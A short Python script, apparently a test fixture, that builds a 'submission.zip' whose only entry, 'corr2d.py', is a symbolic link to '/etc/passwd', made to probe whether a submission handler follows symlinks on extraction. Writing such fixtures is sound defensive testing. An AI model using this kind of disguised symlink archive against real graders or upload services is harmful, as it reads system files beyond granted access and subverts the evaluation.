"""A zip whose only entry is a symbolic link."""

import zipfile
from pathlib import Path

NAME = "submission.zip"


def make(path):
    """Write the submission to `path`, or to NAME in it if it is a folder; where it lies now."""
    path = Path(path)
    path = path / NAME if path.is_dir() else path
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        entry = zipfile.ZipInfo("corr2d.py")
        entry.external_attr = 0o120777 << 16
        archive.writestr(entry, "/etc/passwd")
    return path
